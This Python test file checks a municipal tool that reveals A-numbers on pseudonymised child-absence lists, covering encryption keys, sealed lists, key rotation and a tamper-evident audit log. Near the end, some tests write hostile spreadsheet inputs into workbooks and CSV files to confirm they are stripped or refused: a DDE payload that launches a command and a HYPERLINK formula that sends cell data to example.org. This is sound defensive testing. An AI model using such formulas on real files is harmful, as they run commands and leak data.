"""From a case on a list back to the child: keys, key map, reveal, audit log, encrypted lists; all by the commands."""

import csv
import fcntl
import hashlib
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass, replace
from datetime import date
from functools import partial
from pathlib import Path
from typing import Any

import pyrage
import pytest
from openpyxl import load_workbook

from brp_signals.base.case_ids import case_id
from brp_signals.state.ledger import open_ledger
from brp_signals.state.memory_files import rows_of
from tests.gateway.rubric import (
    SCHOOL_HEADER,
    TRACE_HEADER,
    a_number,
    bsn,
    departed,
    residence,
    rubric,
    school_row,
    table,
    who,
)
from tests.support.commands import command

pytestmark = pytest.mark.long

DAY = "2026-06-15"
CONFIG = """
[[sources]]
code = "verzuim"
kind = "absence_report"
legal_basis = "Leerplichtwet 1969, artikel 21a"
retention_days = 365
"""
LISTED, SEALED, SILENT, NEVER_LEFT, GROWN_UP = (1, 2, 3), (4, 5), 6, 7, 8
CASES = (*LISTED, *SEALED)
WORKBOOK = f"0363/signalen-0363-{DAY}.xlsx"


@dataclass(frozen=True)
class Desk:
    """A folder with keys, a delivery, its key map, and lists of a plain and of an encrypting run."""

    folder: Path

    def ask(self, *words: str | Path, code: int = 0, tmpdir: str = "") -> subprocess.CompletedProcess[str]:
        """Run one command, which must end with this exit code; a failure says one sentence."""
        in_folder = partial(command, *words, cwd=self.folder)
        done = in_folder(TMPDIR=tmpdir) if tmpdir else in_folder()
        assert done.returncode == code, done.stderr
        assert "Traceback" not in done.stderr
        assert not code or len(done.stderr.strip().splitlines()) == 1, done.stderr
        return done

    def reveal(self, signal_list: str | Path, out: str, *words: str, code: int = 0) -> subprocess.CompletedProcess[str]:
        """Reveal a list with the ordinary identity, unless the words say otherwise."""
        given = {"--key-map": "map.age", "--identity": "clerk.id", "--reason": "Onderzoek na signaal"}
        given |= dict(zip(words[::2], words[1::2], strict=True))
        options = [word for pair in given.items() for word in pair]
        return self.ask("reveal", signal_list, "--out", out, *options, code=code)

    def path(self, name: str) -> Path:
        return self.folder / name

    def rows(self, name: str) -> list[dict[str, str]]:
        """The rows of a CSV file."""
        with self.path(name).open(encoding="utf-8", newline="") as stream:
            return list(csv.DictReader(stream))

    def logged(self, name: str = "reveal-audit.jsonl") -> list[dict[str, object]]:
        """The lines of the audit log."""
        return [json.loads(line) for line in self.path(name).read_text(encoding="utf-8").splitlines()]


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """Made once: five children with a sign after they left, two of them under secrecy, and three others."""
    desk = Desk(tmp_path_factory.mktemp("office"))
    leavers = [
        [who(serial, c07_70_10="7" if serial in SEALED else "0", **gone()), residence()] for serial in (*CASES, SILENT)
    ]
    stayers = [[who(NEVER_LEFT)], [who(GROWN_UP, c01_03_10="19800101")]]
    desk.path("register.csv").write_bytes(rubric([*leavers, *stayers]))
    desk.path("schools.csv").write_bytes(table(SCHOOL_HEADER, [school_row(NEVER_LEFT)]))
    traces = [(bsn(serial), "absence_report", "verzuim", "2026-05-04", "") for serial in CASES]
    desk.path("traces.csv").write_bytes(table(TRACE_HEADER, traces))
    desk.path("brp-signals.toml").write_text(CONFIG)
    desk.ask("key", "new", "pseudonym.key")
    clerk = desk.ask("key", "identity", "clerk.id").stdout.strip()
    officer = desk.ask("key", "identity", "officer.id").stdout.strip()
    desk.ask("key", "identity", "stranger.id")
    desk.ask(*pseudonymise("delivery"), "--key-map", "map.age", "--recipient", clerk, "--sealed-recipient", officer)
    desk.ask("run", "delivery")
    encrypt = ("--encrypt-to", clerk, "--encrypt-sealed-to", officer)
    places = ("--state", "state2", "--output", "output2")
    desk.path("tmp").mkdir()
    desk.ask("run", "delivery", *places, *encrypt, tmpdir=str(desk.path("tmp")))
    return desk


@pytest.fixture
def desk(office: Desk, tmp_path: Path) -> Desk:
    """A copy of the office, to do with as a test likes."""
    shutil.copytree(office.folder, tmp_path / "desk", symlinks=True)
    return Desk(tmp_path / "desk")


def gone() -> dict[str, str]:
    """The first line of a leaver, as keywords of `who`."""
    return {f"c{name.replace('.', '_')}": value for name, value in departed("20260302").items()} | {
        "c07_67_10": "20260302",
        "c07_67_20": "E",
    }


def pseudonymise(out: str, key: str = "pseudonym.key") -> list[str]:
    sources = ["gbav=register.csv", "school-csv=schools.csv", "trace-csv=traces.csv"]
    words = [word for source in sources for word in ("--source", source)]
    return ["pseudonymise", *words, "--key-file", key, "--out", out, "--reference-date", DAY, "--scope", "0363"]


def numbers(serials: Iterable[int]) -> list[str]:
    return sorted(a_number(serial) for serial in serials)


# ---- the round trip


def test_a_table_gets_the_a_numbers_of_exactly_its_cases(desk: Desk) -> None:
    desk.reveal("output/latest/signals.csv", "out.csv")
    before, after = desk.rows("output/latest/signals.csv"), desk.rows("out.csv")
    assert [{**row, "a_number": a_number} for row, a_number in zip(before, column(after), strict=True)] == after
    assert sorted(column(after)) == numbers(LISTED)
    for row in after:
        assert row["person_id"] == pseudonym(desk, row["a_number"])
    text = desk.path("out.csv").read_text()
    assert not any(bsn(serial) in text for serial in CASES)


def test_a_list_of_before_cases_had_a_chance_gets_its_a_numbers_too(desk: Desk) -> None:
    rows = desk.rows("output/latest/signals.csv")
    earlier = [name for name in rows[0] if name != "chance_pct"]
    with desk.path("earlier.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, earlier, lineterminator="\n", extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    desk.reveal("earlier.csv", "out.csv")
    found = desk.rows("out.csv")
    assert list(found[0]) == [*earlier, "a_number"]
    assert sorted(row["a_number"] for row in found) == sorted(a_number(serial) for serial in LISTED)


def column(rows: list[dict[str, str]]) -> list[str]:
    return [row["a_number"] for row in rows]


def pseudonym(desk: Desk, wanted: str) -> str:
    """The pseudonym of the person with this A-number, by the gateway itself."""
    from brp_signals.gateway.pseudonyms import Space, read_key

    (serial,) = (serial for serial in CASES if a_number(serial) == wanted)
    return read_key(desk.path("pseudonym.key")).pseudonym(Space.BSN, bsn(serial))


def hidden(sheet: Any) -> int:
    """The column of pseudonyms, which nobody sees."""
    (key,) = [cell for cell in sheet[1] if cell.value == "Kenmerk (pseudoniem)"]
    assert sheet.column_dimensions[key.column_letter].hidden
    return int(key.column)


def test_a_workbook_gets_them_too_and_stays_what_it_was(desk: Desk) -> None:
    source = f"output/latest/{WORKBOOK}"
    desk.reveal(source, "out.xlsx")
    before, after = load_workbook(desk.path(source)), load_workbook(desk.path("out.xlsx"))
    old, new = before["Signalen"], after["Signalen"]
    assert [cell.value for cell in new[1]][:3] == ["Rang", "Nummer", "A-nummer"]
    for row in range(2, new.max_row + 1):
        assert new.cell(row, 3).data_type == "s"
        assert new.cell(row, hidden(new)).value == pseudonym(desk, str(new.cell(row, 3).value))
    assert sorted(str(new.cell(row, 3).value) for row in range(2, new.max_row + 1)) == numbers(LISTED)
    for row in range(1, old.max_row + 1):
        shown = [new.cell(row, each) for each in range(1, new.max_column + 1) if each != 3]
        assert [(cell.value, cell.number_format) for cell in shown] == [
            (cell.value, cell.number_format) for cell in old[row]
        ]
    assert (new.freeze_panes, new.print_title_rows, new.print_area) == ("D2", "$1:$1", "'Signalen'!$A$1:$N$4")
    assert (new.sheet_view.pane.xSplit, new.sheet_view.pane.ySplit, len(new.sheet_view.selection)) == (3, 1, 3)
    assert new.auto_filter.ref == "A1:W4"
    # Running text is narrower, so that with A-numbers it still prints at 8 points (issue 14, D27).
    assert [each for each, _ in widths(new)][2] == 11.7109375
    kept = zip(widths(new)[:2] + widths(new)[3:], widths(old), strict=True)
    assert all(mine[1] == was[1] and was[0] * 0.7 < mine[0] <= was[0] for mine, was in kept)
    assert [str(choice.sqref) for choice in new.data_validations.dataValidation] == ["K2:K4", "L2:L4", "M2:M4", "N2:N4"]
    assert [choice.formula1 for choice in new.data_validations.dataValidation] == [
        choice.formula1 for choice in old.data_validations.dataValidation
    ]
    assert new.page_setup.orientation == "landscape" and new.page_setup.fitToHeight == 0
    assert str(new.oddHeader.right.text).endswith("Vertrouwelijk")
    assert str(after["Samenvatting"]["A3"].value).startswith("Met A-nummers (4 van 4)"), "one was drawn by chance"
    drawn = after["Steekproef"]
    assert [cell.value for cell in drawn[1]][:3] == ["Nummer", "A-nummer", "Vertrek"]
    assert [str(drawn["B2"].value), drawn["B2"].data_type, drawn["B3"].value] == [*numbers([SILENT]), "s", None]
    assert [str(choice.sqref) for choice in drawn.data_validations.dataValidation] == ["H2", "I2", "J2", "K2"]
    under = [[cell.value for cell in column] for column in (before["Steekproef"]["D"], drawn["E"])]
    assert under[0] == under[1] and str(under[1][3]).startswith("Waarom deze")
    for name in ("Bewijs", "Uitleg"):
        now, then = (book[name].iter_rows(values_only=True) for book in (after, before))
        assert list(now) == list(then)


def widths(sheet: object) -> list[tuple[float, bool]]:
    found = {
        number: (each.width, each.hidden)
        for each in sheet.column_dimensions.values()  # type: ignore[attr-defined]
        for number in range(each.min, each.max + 1)
    }
    return [found[number] for number in sorted(found)]


def test_a_person_who_is_not_in_the_map_stays_without_number(desk: Desk) -> None:
    clerk = recipient(desk, "clerk.id")
    lines = desk.path("register.csv").read_text(encoding="utf-8-sig").splitlines(keepends=True)
    kept = [line for line in lines if bsn(LISTED[0]) not in line]
    first = lines.index(next(line for line in lines if bsn(LISTED[0]) in line))
    desk.path("register.csv").write_text("".join(line for line in kept if line != lines[first + 1]), encoding="utf-8")
    desk.ask(*pseudonymise("later"), "--key-map", "later.age", "--recipient", clerk)
    done = desk.reveal("output/latest/signals.csv", "out.csv", "--key-map", "later.age")
    assert "2 of 3 cases" in done.stderr and "1 cases are not in the key map" in done.stderr
    assert sorted(column(desk.rows("out.csv"))) == ["", *numbers(LISTED[1:])]


def recipient(desk: Desk, name: str) -> str:
    return desk.path(name).read_text().split()[3]


def test_the_map_holds_children_and_leavers_and_says_how_many(desk: Desk) -> None:
    clerk = recipient(desk, "clerk.id")
    done = desk.ask(*pseudonymise("other"), "--key-map", "other.age", "--recipient", clerk, "--json")
    assert json.loads(done.stdout)["key_map"] == {"ordinary": 5, "sealed": 0, "left_out": 2}
    assert "2 × person under a secrecy indication in no key map" in done.stderr
    inside = opened(desk, "other.age", "clerk.id")
    header, _, rows = inside.partition(b"\n")
    assert json.loads(header)["reference_date"] == DAY
    found = {row[:16].hex(): (int.from_bytes(row[16:21]), int.from_bytes(row[21:])) for row in chunks(rows)}
    expected = (*LISTED, SILENT, NEVER_LEFT)
    assert sorted(found.values()) == sorted((int(a_number(serial)), int(bsn(serial))) for serial in expected)


def opened(desk: Desk, name: str, identity: str) -> bytes:
    key = pyrage.x25519.Identity.from_str(desk.path(identity).read_text().splitlines()[-1])
    return bytes(pyrage.decrypt(desk.path(name).read_bytes(), [key]))


def chunks(rows: bytes, size: int = 25) -> list[bytes]:
    assert len(rows) % size == 0
    return [rows[start : start + size] for start in range(0, len(rows), size)]


# ---- sealed lists


def test_a_sealed_list_needs_the_second_identity(desk: Desk) -> None:
    for name, out in ((WORKBOOK, "out.xlsx"), ("0363/signals.csv", "out.csv")):
        done = desk.reveal(f"output/latest/sealed/{name}", out, code=2)
        assert "--sealed-identity" in done.stderr
        assert not desk.path(out).exists()
    assert [(line["outcome"], line["sealed"]) for line in desk.logged()] == [("refused", True)] * 2
    desk.reveal("output/latest/sealed/0363/signals.csv", "out.csv", "--sealed-identity", "officer.id")
    assert sorted(column(desk.rows("out.csv"))) == numbers(SEALED)
    assert desk.logged()[-1]["sealed"] is True


def test_a_sealed_list_that_was_moved_reveals_nothing_either(desk: Desk) -> None:
    shutil.copy(desk.path("output/latest/sealed/signals.csv"), desk.path("plain-name.csv"))
    shutil.copy(desk.path(f"output/latest/sealed/{WORKBOOK}"), desk.path("plain-name.xlsx"))
    for suffix in ("csv", "xlsx"):
        assert "sealed" in desk.reveal(f"plain-name.{suffix}", f"out.{suffix}", code=2).stderr
        assert not desk.path(f"out.{suffix}").exists()


def test_the_sealed_part_opens_for_the_officer_alone(desk: Desk) -> None:
    words = ("--sealed-identity", "clerk.id")
    assert "somebody else" in desk.reveal("output/latest/sealed/signals.csv", "out.csv", *words, code=2).stderr
    ordinary = opened(desk, "map.age", "clerk.id")
    for serial in SEALED:
        assert int(a_number(serial)).to_bytes(5) not in ordinary


# ---- refusals


def test_another_identity_reveals_nothing(desk: Desk) -> None:
    done = desk.reveal("output/latest/signals.csv", "out.csv", "--identity", "stranger.id", code=2)
    assert "does not open it" in done.stderr
    assert not desk.path("out.csv").exists()


def test_a_map_of_another_key_reveals_nothing(desk: Desk) -> None:
    desk.ask("key", "new", "other.key")
    clerk = recipient(desk, "clerk.id")
    desk.ask(*pseudonymise("other", "other.key"), "--key-map", "other.age", "--recipient", clerk)
    assert "another key" in desk.reveal("output/latest/signals.csv", "o.csv", "--key-map", "other.age", code=2).stderr


@pytest.mark.parametrize(
    "reason",
    [
        "",
        "   ",
        "kind met BSN 123456782",
        "A-nummer 9000000013",
        "12345678",
        "bsn 1234.56.782",
        "nr 123 456 782",
        "900/000/077",
        "900_000_077",
        "9-0-0-0-0-0-0-7-7",
        "nr 9000 000 013",
        "bsn 900 dan 000 dan 077",
        "９０００００００７７",
        "\u0669\u0660\u0660\u0660\u0660\u0660\u0660\u0667\u0667",
        "90\u200b00\u200b00\u200b077",
        "kind geboren op 05-05-2014",
    ],
)
def test_a_reason_is_given_and_holds_no_number(reason: str, desk: Desk) -> None:
    assert "--reason" in desk.reveal("output/latest/signals.csv", "out.csv", "--reason", reason, code=2).stderr
    assert not desk.path("reveal-audit.jsonl").exists()


@pytest.mark.parametrize(
    "reason", ["Zaak 2026-00123 van 20-11-2026", "Verzoek leerplicht, S-2345-6789", "Vraag van 2026-11-20, kamer 12"]
)
def test_dates_and_case_numbers_are_fine_in_a_reason(reason: str, desk: Desk) -> None:
    desk.reveal("output/latest/signals.csv", "out.csv", "--reason", reason)
    assert desk.logged()[0]["reason"] == reason


@pytest.mark.parametrize("name", ["clerk.id", "officer.id"])
def test_an_identity_that_others_can_read_is_refused(name: str, desk: Desk) -> None:
    desk.path(name).chmod(0o640)
    words = ("--sealed-identity", "officer.id")
    assert "chmod 600" in desk.reveal("output/latest/signals.csv", "out.csv", *words, code=2).stderr


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", "no list of signals"),
        (b"a,b\n1,2\n", "no list of signals"),
        (b"PK\x03\x04 not a workbook", "no list of signals"),
        (b"\xff\xfe", "no list of signals"),
        (b"age-encryption.org/v1\ncut off", "damaged"),
    ],
)
def test_what_is_no_list_is_refused_and_logged(content: bytes, sentence: str, desk: Desk) -> None:
    desk.path("strange.csv").write_bytes(content)
    assert sentence in desk.reveal("strange.csv", "out.csv", code=3).stderr
    (line,) = desk.logged()
    assert (line["outcome"], line["list_sha256"]) == ("refused", hashlib.sha256(content).hexdigest())


def test_a_list_with_a_changed_pseudonym_is_refused_by_its_row(desk: Desk) -> None:
    text = desk.path("output/latest/signals.csv").read_text()
    person = desk.rows("output/latest/signals.csv")[1]["person_id"]
    desk.path("changed.csv").write_text(text.replace(person, person[:-1]))
    done = desk.reveal("changed.csv", "out.csv", code=3)
    assert "row 3" in done.stderr and person[:-1] not in done.stderr


def test_nothing_is_written_over_and_nothing_revealed_twice(desk: Desk) -> None:
    desk.reveal("output/latest/signals.csv", "out.csv")
    assert "exists already" in desk.reveal("output/latest/signals.csv", "out.csv", code=2).stderr
    assert "holds A-numbers already" in desk.reveal("out.csv", "twice.csv", code=2).stderr
    desk.reveal(f"output/latest/{WORKBOOK}", "out.xlsx")
    assert "holds A-numbers already" in desk.reveal("out.xlsx", "twice.xlsx", code=2).stderr
    assert "does not exist" in desk.reveal("output/latest/signals.csv", "nowhere/out.csv", code=2).stderr
    assert "ends in .xlsx" in desk.reveal(f"output/latest/{WORKBOOK}", "twice.csv", code=2).stderr


def test_a_key_map_needs_a_recipient_and_a_place_outside_the_delivery(desk: Desk) -> None:
    clerk = recipient(desk, "clerk.id")
    secret = desk.path("clerk.id").read_text().splitlines()[-1]
    for words, sentence in (
        (["--key-map", "m.age"], "--recipient"),
        (["--recipient", clerk], "--key-map"),
        (["--key-map", "new/m.age", "--recipient", clerk], "must not be in the delivery"),
        (["--key-map", "nowhere/m.age", "--recipient", clerk], "cannot be written there"),
        (["--key-map", "map.age", "--recipient", clerk], "--sealed-recipient"),
        (["--key-map", "m.age", "--recipient", secret], "public recipient"),
    ):
        done = desk.ask(*pseudonymise("new"), *words, code=2)
        assert sentence in done.stderr and secret not in done.stderr
        assert not desk.path("new").exists()


# ---- files


def test_keys_maps_lists_and_logs_are_for_their_owner_alone(desk: Desk) -> None:
    desk.reveal("output/latest/signals.csv", "out.csv")
    for name in ("pseudonym.key", "clerk.id", "map.age", "map.age.sealed", "out.csv", "reveal-audit.jsonl"):
        assert stat.S_IMODE(desk.path(name).stat().st_mode) == 0o600, name


def test_a_key_is_random_and_never_written_over(desk: Desk) -> None:
    before = desk.path("pseudonym.key").read_bytes()
    assert len(before.strip()) == 64
    assert "never written over" in desk.ask("key", "new", "pseudonym.key", code=2).stderr
    assert "never written over" in desk.ask("key", "identity", "pseudonym.key", code=2).stderr
    assert desk.path("pseudonym.key").read_bytes() == before
    desk.ask("key", "new", "second.key")
    assert desk.path("second.key").read_bytes() != before


# ---- rotation


def test_a_rotated_map_reveals_the_same(desk: Desk) -> None:
    desk.ask("key", "new", "new.key")
    desk.ask(*rotate(desk), "--sealed-identity", "officer.id", "--sealed-recipient", recipient(desk, "officer.id"))
    desk.ask(*pseudonymise("again", "new.key"))
    desk.ask("run", "again", "--state", "state3", "--output", "output3")
    assert not {row["person_id"] for row in desk.rows("output3/latest/signals.csv")} & {
        row["person_id"] for row in desk.rows("output/latest/signals.csv")
    }
    words: tuple[str, ...] = ("--key-map", "rotated.age")
    desk.reveal("output3/latest/signals.csv", "out.csv", *words)
    assert sorted(column(desk.rows("out.csv"))) == numbers(LISTED)
    words += ("--sealed-identity", "officer.id")
    desk.reveal("output3/latest/sealed/signals.csv", "sealed.csv", *words)
    assert sorted(column(desk.rows("sealed.csv"))) == numbers(SEALED)


def rotate(desk: Desk, **changes: str) -> list[str]:
    given = {
        "key-file": "pseudonym.key",
        "new-key-file": "new.key",
        "key-map": "map.age",
        "identity": "clerk.id",
        "recipient": recipient(desk, "clerk.id"),
        "out": "rotated.age",
    } | {name.replace("_", "-"): value for name, value in changes.items()}
    return ["key", "rotate", *(word for name, value in given.items() for word in (f"--{name}", value))]


def test_a_rotation_that_does_not_fit_leaves_nothing(desk: Desk) -> None:
    desk.ask("key", "new", "new.key")
    for words, sentence in (
        (rotate(desk), "--sealed-identity"),
        ([*rotate(desk, new_key_file="pseudonym.key"), *both(desk)], "same key"),
        ([*rotate(desk, identity="stranger.id"), *both(desk)], "does not open it"),
        ([*rotate(desk, key_file="new.key", new_key_file="pseudonym.key"), *both(desk)], "made under key"),
        ([*rotate(desk, out="map.age"), *both(desk)], "exists already"),
    ):
        assert sentence in desk.ask(*words, code=2).stderr
        assert not desk.path("rotated.age").exists() and not desk.path("rotated.age.sealed").exists()


def test_a_rotation_takes_the_ledger_along(desk: Desk) -> None:
    listed, remembered = desk.rows("output/latest/signals.csv"), _remembered(desk)
    old_ids = _person_ids(desk) | remembered
    assert len(old_ids) == len(CASES) + 1
    desk.ask("key", "new", "new.key")
    desk.ask(*rotate(desk, state="state"), *both(desk))
    kept = [path for path in desk.path("state").rglob("*") if path.is_file() and not path.name.startswith("last_run-")]
    assert len(kept) > 2
    assert not [path for path in kept for old in old_ids if old.encode() in path.read_bytes()]
    assert "another pseudonym_key_id" in desk.ask("run", "delivery", code=3).stderr
    desk.ask(*pseudonymise("under-the-new-key", "new.key"), "--delivery-id", "under-the-new-key")
    desk.ask("run", "under-the-new-key")
    again = desk.rows("output/latest/signals.csv")
    assert [(row["case_id"], row["status"]) for row in again] == [(row["case_id"], "ongoing") for row in listed]
    assert not old_ids & _person_ids(desk)
    assert len(_remembered(desk)) == 1 and not old_ids & _remembered(desk)


def _person_ids(desk: Desk) -> set[str]:
    return {row["person_id"] for name in ("", "sealed/") for row in desk.rows(f"output/latest/{name}signals.csv")}


def _remembered(desk: Desk) -> set[str]:
    """Who is on the school lists that are remembered."""
    with open_ledger(desk.path("state")) as ledger:
        last = ledger.last_run()
    assert last is not None
    return set(rows_of(desk.path("state"), last.enrolment_memory)["person_id"])


def both(desk: Desk) -> list[str]:
    """The words by which the sealed part goes along."""
    return ["--sealed-identity", "officer.id", "--sealed-recipient", recipient(desk, "officer.id")]


def test_a_ledger_that_does_not_fit_keeps_its_key(desk: Desk) -> None:
    """One person of the ledger is not in the map, a run is busy, or the ledger was under another key."""
    desk.ask("key", "new", "new.key")
    desk.path("empty").mkdir(mode=0o700)
    people = [[who(serial, **gone()), residence()] for serial in LISTED[:2]]
    desk.path("fewer.csv").write_bytes(rubric(people))
    fewer = [word.replace("register.csv", "fewer.csv") for word in pseudonymise("fewer")]
    desk.ask(*fewer, "--key-map", "fewer.age", "--recipient", recipient(desk, "clerk.id"))
    for words, sentence in (
        (rotate(desk, state="state", key_map="fewer.age"), "4 persons of the ledger have no new pseudonym"),
        ([*rotate(desk, state="nowhere"), *both(desk)], "does not exist"),
        ([*rotate(desk, state="empty"), *both(desk)], "holds no run"),
    ):
        assert sentence in desk.ask(*words, code=2).stderr
        assert not desk.path("rotated.age").exists()
    with desk.path("state/run.lock").open("a+") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        desk.ask(*rotate(desk, state="state"), *both(desk), code=4)
    desk.ask("run", "delivery")
    assert {row["status"] for row in desk.rows("output/latest/signals.csv")} == {"new"}  # the same run once more


def test_a_ledger_can_go_back_to_its_old_key(desk: Desk) -> None:
    desk.ask("key", "new", "new.key")
    desk.ask(*rotate(desk, state="state"), *both(desk))
    assert "is under key" in desk.ask(*rotate(desk, state="state", out="twice.age"), *both(desk), code=2).stderr
    back = rotate(desk, key_file="new.key", new_key_file="pseudonym.key", key_map="rotated.age", out="back.age")
    desk.ask(*back, "--state", "state", *both(desk))
    before = desk.path("output/latest/signals.csv").read_bytes()
    desk.ask("run", "delivery")
    assert desk.path("output/latest/signals.csv").read_bytes() == before


# ---- the audit log


def test_a_line_says_what_was_done_and_names_nobody(desk: Desk) -> None:
    source = desk.path("output/latest/signals.csv")
    done = desk.reveal(source, "out.csv")
    (line,) = desk.logged()
    assert line["list"] == "signals.csv"
    assert line["list_sha256"] == hashlib.sha256(source.read_bytes()).hexdigest()
    assert (line["cases"], line["revealed"], line["sealed"], line["outcome"]) == (3, 3, False, "revealed")
    assert line["reason"] == "Onderzoek na signaal"
    assert line["key_id"] == json.loads(desk.path("delivery/manifest.json").read_text())["pseudonym_key_id"]
    assert done.stdout.strip() == line["hash"]
    text = desk.path("reveal-audit.jsonl").read_text()
    for row in desk.rows("out.csv"):
        assert not any(row[name] in text for name in ("person_id", "case_id", "a_number"))


@pytest.fixture(scope="module")
def log(office: Desk) -> bytes:
    """A log of three reveals."""
    for number in range(3):
        office.reveal("output/latest/signals.csv", f"log-{number}.csv", "--audit-log", "three.jsonl")
    return office.path("three.jsonl").read_bytes()


def test_a_sound_log_is_whole(log: bytes, tmp_path: Path) -> None:
    lines, head = verified(log, tmp_path)
    assert (lines, head) == (3, json.loads(log.splitlines()[-1])["hash"])


def test_every_changed_byte_shows(log: bytes, tmp_path: Path) -> None:
    for place in range(len(log)):
        changed = log[:place] + bytes([log[place] ^ 1]) + log[place + 1 :]
        assert broken(changed, tmp_path) == log[:place].count(b"\n") + 1, place


def test_lines_that_come_or_go_show(log: bytes, tmp_path: Path) -> None:
    first, second, third = log.splitlines(keepends=True)
    for content, line in (
        (second + third, 1),
        (first + third, 2),
        (first + first + second + third, 2),
        (first + third + second, 2),
        (first + b"\n" + second + third, 2),
        (first + second + third + b"\n", 4),
        (first + second + third[:-1], 3),
    ):
        assert broken(content, tmp_path) == line


def test_a_missing_end_shows_by_a_hash_kept_elsewhere(log: bytes, tmp_path: Path) -> None:
    lines = log.splitlines(keepends=True)
    kept = [json.loads(line)["hash"] for line in lines]
    assert verified(b"".join(lines[:2]), tmp_path)[0] == 2
    assert broken(b"".join(lines[:2]), tmp_path, kept[2]) == 0
    for each in kept:
        assert verified(log, tmp_path, each)[0] == 3


def verified(content: bytes, folder: Path, expected: str | None = None) -> tuple[int, str]:
    from brp_signals.gateway.way_back.audit import verify

    (folder / "log").write_bytes(content)
    return verify(folder / "log", expected)


def broken(content: bytes, folder: Path, expected: str | None = None) -> int:
    """The line that is said to be broken; 0 when lines are missing from the end."""
    from brp_signals.base.errors import DeliveryRefused

    with pytest.raises(DeliveryRefused) as caught:
        verified(content, folder, expected)
    words = str(caught.value).replace(":", "").split()
    return int(words[words.index("line") + 1]) if "broken" in words else 0


def test_the_command_says_so_and_a_broken_log_stops_reveals(log: bytes, desk: Desk) -> None:
    desk.path("log").write_bytes(log)
    assert "whole: 3 lines" in desk.ask("audit", "verify", "log").stderr
    desk.path("log").write_bytes(log.replace(b"Onderzoek", b"onderzoek", 1))
    assert "line 1" in desk.ask("audit", "verify", "log", code=3).stderr
    assert "line 1" in desk.reveal("output/latest/signals.csv", "out.csv", "--audit-log", "log", code=3).stderr
    assert not desk.path("out.csv").exists()
    assert "--expect" not in desk.ask("audit", "verify", "nothing", code=2).stderr


def test_without_a_log_line_there_is_no_list(desk: Desk) -> None:
    desk.reveal("output/latest/signals.csv", "out.csv", "--audit-log", "nowhere/log", code=2)
    assert not desk.path("out.csv").exists()


def test_reveals_at_the_same_time_make_one_chain(desk: Desk) -> None:
    words = [sys.executable, "-m", "brp_signals", "reveal", "output/latest/signals.csv", "--key-map", "map.age"]
    words += ["--identity", "clerk.id", "--reason", "Onderzoek", "--out"]
    busy = [subprocess.Popen([*words, f"{number}.csv"], cwd=desk.folder) for number in range(4)]
    assert [process.wait(120) for process in busy] == [0] * 4
    assert "whole: 4 lines" in desk.ask("audit", "verify", "reveal-audit.jsonl").stderr


@pytest.mark.parametrize("left", [1, 100])
def test_a_line_that_does_not_fit_on_the_disk_is_taken_back(left: int, log: bytes, desk: Desk) -> None:
    """The system takes a part of the line only; the limit is on the size of a file, as a quota would be."""
    desk.path("log").write_bytes(log)
    words = [
        sys.executable,
        "-c",
        _WITH_LIMIT,
        str(len(log) + left),
        "reveal",
        "output/latest/signals.csv",
        "--out",
        "out.csv",
    ]
    words += ["--key-map", "map.age", "--identity", "clerk.id", "--reason", "Onderzoek", "--audit-log", "log"]
    done = subprocess.run(words, cwd=desk.folder, capture_output=True, text=True, timeout=120)
    assert done.returncode == 5, done.stderr
    assert "nothing was revealed and the log is what it was" in done.stderr
    assert desk.path("log").read_bytes() == log
    assert not desk.path("out.csv").exists()
    desk.reveal("output/latest/signals.csv", "out.csv", "--audit-log", "log")


#: Runs a command that may not make any file longer than its first argument says.
_WITH_LIMIT = """
import resource, sys
limit = int(sys.argv.pop(1))
resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
from brp_signals.cli import main
main()
"""


@pytest.mark.parametrize("log_name", ["/dev/null", "/dev/full", "pipe", "out.csv"])
def test_a_log_that_would_keep_nothing_is_refused(log_name: str, desk: Desk) -> None:
    os.mkfifo(desk.path("pipe"))
    done = desk.reveal("output/latest/signals.csv", "out.csv", "--audit-log", log_name, code=2)
    assert "audit log" in done.stderr
    assert not desk.path("out.csv").exists()


def test_a_list_that_is_a_pipe_is_refused_at_once(desk: Desk) -> None:
    os.mkfifo(desk.path("pipe.csv"))
    assert "no ordinary file" in desk.reveal("pipe.csv", "out.csv", code=2).stderr


# ---- what comes out beside A-numbers


def test_formulas_links_and_strange_sheets_stay_behind(desk: Desk) -> None:
    book = load_workbook(desk.path(f"output/latest/{WORKBOOK}"))
    sheet = book["Signalen"]
    note = next(cell.column for cell in sheet[1] if cell.value == "Notitie")
    sheet.cell(2, note).value = '=HYPERLINK("http://example.org/?"&B2,"klik")'
    sheet.cell(3, note).value = "=cmd|' /C calc'!A0"
    sheet.cell(4, note).value = "ouders gebeld"
    sheet.cell(4, note).hyperlink = "http://example.org/"
    strange = book.create_sheet("Kwaad")
    strange["A1"] = "=Signalen!C2"
    strange.sheet_state = "veryHidden"
    book.create_sheet("Bijlage")["A1"] = "meegestuurd"
    book.save(desk.path("changed.xlsx"))
    desk.reveal("changed.xlsx", "out.xlsx")
    made = load_workbook(desk.path("out.xlsx"))
    assert made.sheetnames == ["Samenvatting", "Signalen", "Steekproef", "Bewijs", "Uitleg"]
    cells = [cell for each in made.worksheets for row in each.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    texts = {cell.value for cell in cells}
    assert "ouders gebeld" in texts and "meegestuurd" not in texts
    with zipfile.ZipFile(desk.path("out.xlsx")) as parts:
        content = b"".join(parts.read(name) for name in parts.namelist())
        assert not [name for name in parts.namelist() if "external" in name.lower() or "macro" in name.lower()]
    assert b"example.org" not in content and b"cmd|" not in content
    assert sorted(str(row[2]) for row in made["Signalen"].iter_rows(min_row=2, values_only=True)) == numbers(LISTED)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "@SUM(A1)", " =1+1", "＝1+1", "-2+3", "\t=1"])
def test_a_table_with_a_formula_is_refused_by_its_row(cell: str, desk: Desk) -> None:
    rows = desk.rows("output/latest/signals.csv")
    rows[1]["reason_nl"] = cell
    with desk.path("changed.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    done = desk.reveal("changed.csv", "out.csv", code=3)
    assert "row 3, column reason_nl" in done.stderr and "1+1" not in done.stderr
    assert not desk.path("out.csv").exists()


